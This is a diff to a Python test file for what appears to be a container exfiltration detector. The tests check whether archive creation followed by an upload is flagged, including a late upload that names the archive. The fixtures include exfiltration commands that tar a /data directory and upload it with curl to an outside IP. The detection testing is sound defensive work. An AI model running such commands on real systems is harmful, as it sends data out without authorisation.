@@ -76,6 +76,7 @@ def test_encrypted_archive_raises_severity() -> None:
 
 
 def test_transfer_from_another_container_does_not_correlate() -> None:
+    # /tmp is each container's own: the same name there is not a shared file.
     found = run(
         [
             launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=container()),
@@ -93,10 +94,19 @@ def test_transfer_after_the_window_does_not_correlate() -> None:
     found = run(
         [
             launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
-            launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1000 + 901, ctr=ctr),
+            launch("curl -T /tmp/other.bin https://203.0.113.5/u", time=1000 + 901, ctr=ctr),
         ]
     )
     assert [f.analytic.uid for f in found] == [CREATED]
+    # An upload that names the archive joins it however late (within a day): the archive's
+    # own finding stands, and the upload makes the exfiltration one.
+    named = run(
+        [
+            launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
+            launch("curl -T /tmp/a.tgz https://203.0.113.5/u", time=1000 + 901, ctr=ctr),
+        ]
+    )
+    assert [f.analytic.uid for f in named] == [CREATED, EXFIL]
     longer = run(
         [
             launch("tar -czf /tmp/a.tgz /data", time=1000, ctr=ctr),
